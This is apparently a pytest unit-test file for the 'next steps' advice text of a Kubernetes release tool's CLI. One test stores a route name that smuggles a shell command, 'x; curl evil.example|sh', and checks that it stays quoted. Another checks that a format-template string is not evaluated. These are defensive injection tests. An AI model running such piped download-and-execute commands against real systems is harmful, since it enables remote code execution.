"""What a person is told to do next."""

import pytest

from surefoot.cli.advice import next_steps
from tests.unit.cli.releases import release


def test_nothing_is_asked_while_a_release_runs() -> None:
    assert next_steps(release()) == []


@pytest.mark.parametrize(
    ("phase", "command"),
    [
        ("Reverted", "kubectl surefoot retry fraud -n risk"),
        ("Paused", "kubectl surefoot resume fraud -n risk"),
        ("Suspended", "spec.suspend"),
    ],
)
def test_a_release_that_waits_for_a_person_says_the_command(phase: str, command: str) -> None:
    (sentence,) = next_steps(release(phase=phase))
    assert command in sentence


def test_a_name_that_someone_wrote_into_a_status_stays_one_word_of_a_shell() -> None:
    route = {"route": {"name": "x; curl evil.example|sh"}}
    stalled = {"Stalled": ("True", "WeightFight")}
    (sentence,) = next_steps(release(stalled, traffic=route))
    assert "kubectl get httproute 'x; curl evil.example|sh' -n risk" in sentence


def test_a_hold_by_hand_says_the_command_in_any_phase() -> None:
    (sentence,) = next_steps(release(hold={"reason": "WeightLowered"}))
    assert "kubectl surefoot resume fraud -n risk" in sentence


@pytest.mark.parametrize(
    ("reason", "part"),
    [
        ("WeightFight", "kubectl get httproute fraud -n risk --show-managed-fields"),
        ("MaxDurationExceeded", "spec.maxDuration"),
        ("IncumbentMismatch", "fraud-v41"),
        ("ServiceMissing", "Put right what the message names"),
        ("OfANewerVersion", "Put right what the message names"),
    ],
)
def test_a_stalled_release_says_what_its_reason_asks_for(reason: str, part: str) -> None:
    (sentence,) = next_steps(release({"Stalled": ("True", reason)}))
    assert part in sentence


def test_a_revert_is_told_as_such_although_it_stalls() -> None:
    (sentence,) = next_steps(release({"Stalled": ("True", "ThresholdCrossed")}, phase="Reverted"))
    assert "kubectl surefoot retry" in sentence


def test_a_status_of_an_older_spec_is_marked() -> None:
    (sentence,) = next_steps(release(observedGeneration=2))
    assert "older spec" in sentence


def test_text_of_others_is_no_template() -> None:
    serving = {"workload": "{retry.__class__}"}
    (sentence,) = next_steps(release(phase="Reverted", incumbent=serving))
    assert "{retry.__class__}" in sentence
